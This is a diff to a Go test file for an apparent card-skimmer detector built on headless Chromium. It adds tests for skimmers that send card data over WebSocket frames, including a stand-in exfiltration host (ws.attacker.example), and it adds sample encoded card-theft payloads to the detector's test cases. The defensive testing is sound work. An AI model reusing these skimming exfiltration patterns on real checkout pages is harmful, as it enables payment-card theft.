@@ -16,6 +16,7 @@ import (
 	"github.com/chromedp/cdproto/network"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
+	"golang.org/x/net/websocket"
 )
 
 // shared is the one Chromium of this test package.
@@ -225,9 +226,78 @@ func TestRenderStopsNavigationOnline(t *testing.T) {
 	assert.Equal(t, 3, p.Clicks)
 }
 
+// TestRenderWebSocketFrames: a skimmer that sends the card in a WebSocket
+// frame — past a Luhn, expiry and code check, which the played expiry and
+// code pass — is seen by the frame it sends to a real server on
+// 127.0.0.1; and nothing of the browser's own (autofill) leaves.
+func TestRenderWebSocketFrames(t *testing.T) {
+	frames := make(chan string, 8)
+	srv := httptest.NewServer(websocket.Handler(func(ws *websocket.Conn) {
+		for {
+			var msg string
+			if websocket.Message.Receive(ws, &msg) != nil {
+				return
+			}
+			frames <- msg
+		}
+	}))
+	defer srv.Close()
+	sink := "ws" + strings.TrimPrefix(srv.URL, "http") + "/s"
+	require.NoError(t, shared.Start())
+	hits := shared.deadEnd.hits.Load()
+	p := render(t, "testdata/ws", "/checkout.html?sink="+url.QueryEscape(sink), Options{Offline: true, Submit: true, CardField: cardByName})
+	var got *Request
+	for i, r := range p.Requests {
+		if r.URL == sink {
+			got = &p.Requests[i]
+		}
+	}
+	require.NotNil(t, got, "the WebSocket is a request of the page: %v", p.Requests)
+	assert.Equal(t, "WebSocket", got.Type)
+	assert.Equal(t, 101, got.Status)
+	assert.True(t, got.CarriesCard, "the frame holds the number as the page formatted it")
+	assert.True(t, strings.HasSuffix(got.InjectedBy, "/skim.js"), got.InjectedBy)
+	select {
+	case f := <-frames:
+		assert.Contains(t, f, `"n":"4242 4242 4242 4242"`, "the server received the frame")
+		assert.Regexp(t, `"e":"12/\d\d","c":"123"`, f, "an expiry and a code a card check accepts")
+	default:
+		t.Fatal("the server received no frame")
+	}
+	assert.Equal(t, hits, shared.deadEnd.hits.Load(), "no connection of the browser's own tried to leave loopback")
+}
+
+// TestRenderOfflineHoldsWebSockets: offline, a WebSocket to another host
+// is recorded and stopped at the tab's dead-end proxy — the Fetch handler
+// never sees WebSockets — so it reaches no resolver and no server.
+func TestRenderOfflineHoldsWebSockets(t *testing.T) {
+	require.NoError(t, shared.Start())
+	hits := shared.deadEnd.hits.Load()
+	p := render(t, "testdata/ws", "/checkout.html?sink="+url.QueryEscape("wss://ws.attacker.example/s"), Options{Offline: true, Submit: true, CardField: cardByName})
+	var got *Request
+	for i, r := range p.Requests {
+		if r.URL == "wss://ws.attacker.example/s" {
+			got = &p.Requests[i]
+		}
+	}
+	require.NotNil(t, got, "%v", p.Requests)
+	assert.Equal(t, "offline", got.Blocked)
+	assert.Zero(t, got.Status)
+	assert.False(t, got.CarriesCard, "it never opened, so no frame was sent")
+	assert.Greater(t, shared.deadEnd.hits.Load(), hits, "the connection went to the dead end")
+}
+
 // cardByName stands in for the page probe's card-field rules.
-func cardByName(f Field) bool {
-	return f.Autocomplete == "cc-number" || strings.Contains(f.Name+f.ID, "cc-") || strings.Contains(f.Name+f.ID, "card")
+func cardByName(f Field) CardPart {
+	switch id := f.Name + f.ID; {
+	case strings.Contains(id, "cvv") || strings.Contains(id, "cvc"):
+		return CardCode
+	case strings.Contains(id, "exp"):
+		return CardExpiry
+	case f.Autocomplete == "cc-number" || strings.Contains(id, "cc-") || strings.Contains(id, "card"):
+		return CardNumber
+	}
+	return NotCard
 }
 
 // TestRenderTypesCardOnlyInCardFields: the test card number goes into the
@@ -268,6 +338,9 @@ func TestCarriesCard(t *testing.T) {
 		{"https://x.example/c", "payload=" + url.QueryEscape(b64), true},
 		{"https://x.example/i.gif?" + strings.TrimRight(base64.URLEncoding.EncodeToString([]byte("cc="+PlayedCard)), "="), "", true},
 		{"https://x.example/c?d=4242-4242-4242", "", false},
+		{"https://x.example/c", `{"cardNumber":"4242 4242 4242 4242","cvv":"123"}`, true},
+		{"wss://x.example/s", base64.StdEncoding.EncodeToString([]byte("n=4242-4242-4242-4242")), true},
+		{"https://x.example/c?d=4242%204242%204242%204242", "", true},
 		{"https://js.stripe.com/v3/", "", false},
 		{"https://x.example/c", "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", false},
 	}
